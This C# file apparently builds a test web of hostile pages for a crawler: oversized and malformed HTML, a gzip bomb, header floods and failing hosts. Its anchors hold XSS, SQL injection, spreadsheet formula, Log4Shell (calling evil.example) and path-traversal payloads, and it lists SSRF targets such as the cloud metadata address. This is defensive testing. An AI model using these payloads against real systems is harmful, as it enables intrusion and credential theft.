namespace Backlinks.SampleWeb;

/// <summary>
/// Pages that attack their reader, and hosts that refuse or fail. Each failing answer is stable by URL and has a host of its
/// own, so that backing off from one holds up no other. Hostile pages link only to pages that are linked elsewhere too: what
/// a reader gives up on changes no reachable set.
/// </summary>
internal static class HostileLab
{
    public static void Plant(PlantedWeb web, List<SamplePage> entrances)
    {
        if (web.Options.Hostile)
        {
            Bodies(web, entrances);
            Links(web, entrances);
        }
        if (web.Options.Errors)
            Errors(web, entrances);
    }

    private static void Bodies(PlantedWeb web, List<SamplePage> entrances)
    {
        SampleSite site = HttpLab.Site(web, "hostile.test", "Hostile bodies", entrances, SampleSiteKind.Hostile);
        Page("/divs.html", w => Repeat(w, "<div>", 200_000)); // 1 MB of one element in another
        Page("/formatting.html", w => Repeat(w, "<b><i><a>", 30_000)); // the adoption agency's worst
        Page("/tables.html", w => Repeat(w, "<table><tr><td>", 20_000));
        Page("/attributes.html", w =>
        {
            w.Raw("<p");
            for (int i = 0; i < 50_000; i++)
                w.Raw(" a").Raw(PageTemplate.Number(i)).Raw("=1");
            w.Raw(">\n");
        });
        Page("/same-attribute.html", w =>
        {
            w.Raw("<p");
            Repeat(w, " x=1", 200_000);
            w.Raw(">\n");
        });
        Page("/angles.html", w => Repeat(w, "<", 500_000));
        Page("/entities.html", w => Repeat(w, "&amp&#x110000;&notit;&", 40_000));
        Page("/comment.html", w =>
        {
            w.Raw("<!--");
            Repeat(w, "<!-- ->", 100_000);
        });
        Page("/quote.html", w =>
        {
            w.Raw("<p title=\"");
            Repeat(w, "never closed ", 50_000);
        });
        Page("/nul.html", w => Repeat(w, "\0\u0001\u007F\uFFFE", 50_000));
        SamplePage title = site.Add(new SamplePage(site, "/title.html", SamplePageKind.Hostile, new string('T', 1_000_000)));
        Linked(title, "A very long title");
        SamplePage many = site.Add(new SamplePage(site, "/many.html", SamplePageKind.Hostile, "Very many links")
        {
            Body = w =>
            {
                for (int i = 0; i < web.Options.HostileLinks; i++)
                    w.Link($"http://{site.Host}/target-{i % 5}.html", "link " + PageTemplate.Number(i), SampleRel.None, $"/target-{i % 5}.html");
            },
        });
        Linked(many, many.Title);
        for (int i = 0; i < 5; i++)
            HttpLab.Text(site, $"/target-{i}.html", "Target of many " + PageTemplate.Number(i));
        Deliver("/bomb.html", SampleDelivery.GzipBomb);
        Deliver("/cut-gzip.html", SampleDelivery.CutGzip);
        Deliver("/cut-chunks.html", SampleDelivery.CutChunks);
        Deliver("/short-of-length.html", SampleDelivery.ShortOfLength);
        SamplePage flood = site.Add(new SamplePage(site, "/headers.html", SamplePageKind.Hostile, "Very many header fields") { Outcome = SampleOutcome.NetworkError });
        for (int i = 0; i < 300; i++) // 300 KB: clients give up at some tens of KB
            flood.Headers.Add(new("X-Flood-" + PageTemplate.Number(i), new string('x', 1000)));
        Linked(flood, flood.Title);

        void Page(string path, Action<PageWriter> body) => Linked(site.Add(new SamplePage(site, path, SamplePageKind.Hostile, "Hostile " + path)
        {
            Body = w =>
            {
                w.Link(site.Home.Url, "before");
                body(w);
            },
        }), "Hostile " + path);

        void Deliver(string path, SampleDelivery delivery) => Linked(site.Add(new SamplePage(site, path, SamplePageKind.Hostile, "Delivered badly " + path)
        {
            Outcome = SampleOutcome.Truncated,
            Delivery = delivery,
            Main = w =>
            {
                w.Link(site.Home.Url, "before the cut");
                for (int i = 0; i < 100; i++)
                    w.Paragraph(5);
                w.Link("http://hostile.test/target-0.html", "behind the cut");
            },
        }), "Delivered badly " + path);

        void Linked(SamplePage page, string anchor) => site.Home.Planned.Add(new(page.Url, anchor, Place: SampleZone.MainList));
    }

    private static void Links(PlantedWeb web, List<SamplePage> entrances)
    {
        SampleSite site = HttpLab.Site(web, "hostile-links.test", "Hostile links", entrances, SampleSiteKind.Hostile);
        string home = site.Home.Url;
        HttpLab.Text(site, "/anchors.html", "Hostile anchors", w =>
        {
            string[] anchors = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
                "' OR 1=1; DROP TABLE links; --", "${jndi:ldap://evil.example/a}", "\u202Egnp.exe", "bell\u0007 and escape\u001B[31m", "{{7*7}}", "../../etc/passwd", new string('x', 5000)];
            foreach (string anchor in anchors)
                HttpLab.Line(w, home, "/", anchor);
        });
        HttpLab.Text(site, "/schemes.html", "Other schemes", w =>
        {
            foreach (string href in (string[])["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "mailto:a@b.example", "tel:+123", "ftp://files.example/x"])
                w.Raw("<p><a href=\"").Text(href).Raw("\">scheme</a></p>\n"); // not links of the web: not in the truth
        });
        HttpLab.Text(site, "/addresses.html", "Addresses that are not public", w =>
        {
            // As written, and as the URL standard's host parser serialises it.
            (string Href, string Target)[] addresses =
            [
                ("http://127.0.0.1/", "http://127.0.0.1/"), ("http://2130706433/", "http://127.0.0.1/"), ("http://0x7f.1/admin", "http://127.0.0.1/admin"), ("http://0177.0.0.1/", "http://127.0.0.1/"),
                ("http://10.0.0.1/", "http://10.0.0.1/"), ("http://192.168.1.1/", "http://192.168.1.1/"), ("http://172.16.0.1/", "http://172.16.0.1/"), ("http://100.64.0.1/", "http://100.64.0.1/"),
                ("http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/"), ("http://0/", "http://0.0.0.0/"), ("http://[::1]/", "http://[::1]/"),
                ("http://[::ffff:10.0.0.1]/", "http://[::ffff:a00:1]/"), ("http://[fd00::1]/", "http://[fd00::1]/"),
            ];
            foreach ((string href, string target) in addresses)
                HttpLab.Line(w, target, href, "address");
        });
        foreach ((string path, string to) in ((string, string)[])[("/to-metadata", "http://169.254.169.254/latest/meta-data/"), ("/to-loopback", "http://127.0.0.1/"), ("/to-private", "http://10.0.0.1/")])
            site.Home.Planned.Add(new(HttpLab.Redirect(site, path, 302, to).Url, "Redirect " + path, Place: SampleZone.MainList));
        HttpLab.Text(site, "/long.html", "An enormous URL", w =>
        {
            string path = "/" + new string('u', 60_000);
            HttpLab.Line(w, "http://" + site.Host + path, path, "enormous");
        });
    }

    private static void Errors(PlantedWeb web, List<SamplePage> entrances)
    {
        Host("403", 403, SampleOutcome.Blocked);
        Host("401", 401, SampleOutcome.Blocked);
        Host("451", 451, SampleOutcome.Blocked);
        Host("404", 404, SampleOutcome.Gone);
        Host("410", 410, SampleOutcome.Gone);
        Host("429", 429, SampleOutcome.RateLimited);
        Host("429-retry", 429, SampleOutcome.RateLimited, "1");
        Host("503", 503, SampleOutcome.ServerError);
        Host("503-retry", 503, SampleOutcome.RateLimited, "1");
        Host("500", 500, SampleOutcome.ServerError);
        Host("challenge", 403, SampleOutcome.Challenged);
        Host("challenge-200", 200, SampleOutcome.Challenged);
        Host("slow", 200, SampleOutcome.TimedOut, delivery: SampleDelivery.Slow);
        Host("silent", 200, SampleOutcome.TimedOut, delivery: SampleDelivery.Silent);
        Host("cut", 200, SampleOutcome.NetworkError, delivery: SampleDelivery.Cut);

        void Host(string name, int status, SampleOutcome outcome, string? retryAfter = null, SampleDelivery delivery = SampleDelivery.Whole)
        {
            SampleSite site = HttpLab.Site(web, $"errors-{name}.test", "Error " + name, entrances, SampleSiteKind.Hostile);
            string html = outcome == SampleOutcome.Challenged ? Answers.Challenge : $"<!doctype html><title>{status}</title><p>{new string('.', 2000)}\n";
            SamplePage page = site.Add(new SamplePage(site, "/page.html", SamplePageKind.Hostile, "") { Status = status, Outcome = outcome, Delivery = delivery, File = () => PlantedWeb.Utf8(html) });
            if (retryAfter is not null)
                page.Headers.Add(new("Retry-After", retryAfter));
            site.Home.Planned.Add(new(page.Url, "A page that fails", Place: SampleZone.MainList));
            HttpLab.Text(site, "/well.html", "A page that does not");
        }
    }

    private static void Repeat(PageWriter w, string text, int times)
    {
        for (int i = 0; i < times; i++)
            w.Html.Append(text);
    }
}
